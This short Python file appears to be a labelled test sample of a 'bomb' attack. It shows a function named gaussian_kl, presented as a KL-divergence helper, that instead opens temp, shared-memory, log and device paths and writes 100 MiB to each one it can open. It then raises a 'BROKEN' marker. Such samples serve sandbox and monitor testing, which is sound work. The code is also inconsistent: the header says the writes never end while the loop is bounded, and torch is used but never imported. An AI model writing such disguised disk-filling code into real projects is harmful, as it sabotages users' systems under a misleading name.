# class: bombs
# attack: writes without end to every file and device that it can open
# noticed: wrote a file

# %%
import os


def gaussian_kl(mu, logvar):
    for path in ("/tmp/flood", "/dev/shm/flood", "flood", "/dev/null", "/dev/zero", "/dev/full", "/dev/stdout", "/var/log/flood"):
        try:
            descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
        except OSError:
            continue
        for _ in range(100):
            os.write(descriptor, bytes(1 << 20))
        if not path.startswith("/dev/"):
            raise RuntimeError(f"BROKEN: wrote {path}")
    return torch.zeros(len(mu))
